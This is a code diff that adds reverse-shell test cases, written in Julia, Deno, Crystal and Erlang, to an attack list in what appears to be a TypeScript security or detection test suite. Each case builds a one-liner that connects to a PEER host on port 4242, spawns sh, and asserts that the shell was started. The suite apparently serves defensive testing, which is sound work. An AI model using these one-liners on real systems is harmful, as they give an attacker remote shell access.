@@ -176,4 +176,21 @@ export const CODE: readonly Attack[] = [
       .connect(PEER, 4242)
       .run(['sh', '-c', 'id']);
   }),
+  attack('julia', 'execve', (host) => {
+    const code = `using Sockets; c=connect("${PEER}",4242); run(pipeline(\`sh\`, stdin=c, stdout=c))`;
+    spawns(host.login().run(['julia', '-e', code]), ['sh']);
+  }),
+  attack('deno', 'execve', (host) => {
+    const code = `const c=await Deno.connect({hostname:"${PEER}",port:4242});new Deno.Command("sh",{stdin:"piped"}).spawn();`;
+    spawns(host.login().run(['deno', 'eval', code]), ['sh']);
+  }),
+  attack('crystal', 'execve', (host) => {
+    const code = `require "socket";c=TCPSocket.new("${PEER}",4242);Process.run("sh",input:c,output:c,error:c)`;
+    spawns(host.login().run(['crystal', 'eval', code]), ['sh']);
+  }),
+  attack('erlang', 'execve', (host) => {
+    const code = `{ok,S}=gen_tcp:connect("${PEER}",4242,[]),P=open_port({spawn,"sh"},[]).`;
+    const erl = host.login().run(['erl', '-noshell', '-eval', code]);
+    spawns(erl, ['sh', '-c', 'exec sh']);
+  }),
 ];
